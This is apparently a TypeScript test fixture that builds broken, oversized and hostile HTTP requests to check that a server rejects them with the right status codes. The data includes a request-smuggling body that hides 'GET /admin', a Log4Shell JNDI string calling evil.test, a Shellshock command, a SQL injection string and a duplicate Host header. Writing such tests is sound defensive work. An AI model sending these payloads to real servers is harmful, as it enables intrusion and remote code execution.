/** Requests with headers that are broken, too large or made up. */
import { contactPath, expertPath } from "../samples";
import { writeRequest, type HostileRequest } from "./hostile-request";

const formPaths = [contactPath, expertPath];

export function headerTricks(): HostileRequest[] {
  const bad = [
    "No-Colon",
    "Space Name: x",
    ": empty",
    "Nul: a\u0000b",
    "Name\u0000: x",
    "Ctl: a\u0001b",
    "Bare: a\nb: c\r\u0000",
    "Na(me: x",
    "Tab\tName: x",
    "Transfer-Encoding: x",
    "Transfer-Encoding: chunked, identity",
    "Content-Length: -1",
    "Content-Length: 1e3",
    "Content-Length: 0x10",
    "Content-Length: 99999999999999999999",
    "Content-Length: 1, 2",
    "Content-Length: +5",
    "Content-Length: ",
  ];
  const large = [
    `X-Large: ${"a".repeat(17_000)}`,
    ...Array.from({ length: 1_500 }, (_, i) => `X-${i}: ${"b".repeat(20)}`),
  ];
  const requests = formPaths.flatMap((path) => [
    ...bad.map((header) => ({
      name: `${path} with the header ${JSON.stringify(header)}`,
      bytes: writeRequest({ method: "POST", path, headers: [header] }),
      statuses: [400, 403, 415],
    })),
    {
      name: `${path} of HTTP/1.0 without a Host`,
      bytes: Buffer.from(
        `POST ${path} HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`,
      ),
      statuses: [403],
    },
    {
      name: `${path} without a Host`,
      bytes: Buffer.from(`POST ${path} HTTP/1.1\r\nContent-Length: 0\r\n\r\n`),
      statuses: [400],
    },
    {
      name: `${path} with two Hosts`,
      bytes: writeRequest({ path, headers: ["Host: localhost", "host: evil.test"] }),
      statuses: [400],
    },
    {
      name: `${path} with both lengths`,
      bytes: writeRequest({
        method: "POST",
        path,
        headers: ["Transfer-Encoding: chunked", "Content-Length: 5"],
        body: "0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n",
      }),
      statuses: [400],
    },
    {
      name: `${path} with two lengths`,
      bytes: writeRequest({
        method: "POST",
        path,
        headers: ["Content-Length: 5", "Content-Length: 6"],
        body: "aaaaaa",
      }),
      statuses: [400],
    },
    {
      name: `${path} with a large header`,
      bytes: writeRequest({ path, headers: large.slice(0, 1) }),
      statuses: [431],
    },
    {
      name: `${path} with many headers`,
      bytes: writeRequest({ path, headers: large.slice(1) }),
      statuses: [431],
    },
  ]);
  const expectations = ["200-ok", "x", "99-problems"].map((value) => ({
    name: `Expect: ${value}`,
    bytes: writeRequest({
      method: "POST",
      path: contactPath,
      headers: [`Expect: ${value}`],
      body: "{}",
    }),
    statuses: [417],
  }));
  const upgrades = ["websocket", "h2c", "TLS/1.0", "x"].map((value) => ({
    name: `Upgrade: ${value}`,
    bytes: writeRequest({ headers: [`Upgrade: ${value}`, "Connection: Upgrade, close"] }),
    statuses: [200],
  }));
  const values = [
    "*",
    "bytes=-",
    "bytes=9-1",
    "bytes=0-0,1-1",
    "x",
    "\u00ff",
    "a".repeat(8_000),
    "${jndi:ldap://evil.test/x}",
    "() { :; }; id",
    "' OR 1=1 --",
  ];
  const names = [
    "Range",
    "If-None-Match",
    "If-Modified-Since",
    "If-Range",
    "Accept",
    "Accept-Encoding",
    "Cookie",
    "User-Agent",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "Forwarded",
    "X-HTTP-Method-Override",
    "X-Original-URL",
  ];
  const page = names.flatMap((name) =>
    values.map((value) => ({
      name: `${name}: ${value.slice(0, 30)}`,
      bytes: writeRequest({ headers: [`${name}: ${value}`] }),
      statuses: [200, 206, 304, 416],
    })),
  );
  return [...requests, ...expectations, ...upgrades, ...page];
}
